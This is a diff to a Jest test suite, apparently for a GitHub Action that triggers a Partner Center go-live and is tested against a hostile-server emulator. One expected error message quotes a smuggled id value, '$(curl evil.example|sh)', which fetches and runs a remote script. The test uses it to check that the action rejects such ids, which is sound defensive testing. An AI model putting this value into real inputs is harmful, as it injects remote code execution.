@@ -4,6 +4,7 @@
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals'
 import { answer, endless, jsonAnswer, startHostileServer, type HostileServer, type Reply } from '../../emulator/hostile-server.js'
 import { runAction, startAction, type RunResult } from '../../scripts/run-action.js'
+import { onlyResults } from '../helpers/results-only.js'
 
 const TOKEN = 'hostile-test-token'
 const ID = 'contoso$contoso-vm$7$preview'
@@ -173,7 +174,7 @@ describe('outputs are safe to use', () => {
     play({ golive: () => answer(202, { location }) })
     const result = await runAction({ inputs: inputs({ wait: 'true' }) })
     expect(result.exitCode).toBe(1)
-    expect(result.outputs).toEqual({})
+    expect(onlyResults(result.outputs).error).not.toBe('')
     expect(result.stdout).toContain(`::error::The Go Live request was accepted (HTTP 202), but the service ${problem}`)
     expect(result.stdout).toContain('The go-live may have started all the same: check the offer in Partner Center')
     expect(server.requestsTo('GET', '/api/operations/')).toHaveLength(0)
@@ -200,7 +201,7 @@ describe('outputs are safe to use', () => {
       "::error::A go-live of contoso/contoso-vm is already running, but the service lists it under an id the action does not accept ('$(curl evil.example|sh)')"
     )
     expect(posts()).toHaveLength(0)
-    expect(result.outputs).toEqual({})
+    expect(onlyResults(result.outputs).error).not.toBe('')
   })
 })
 
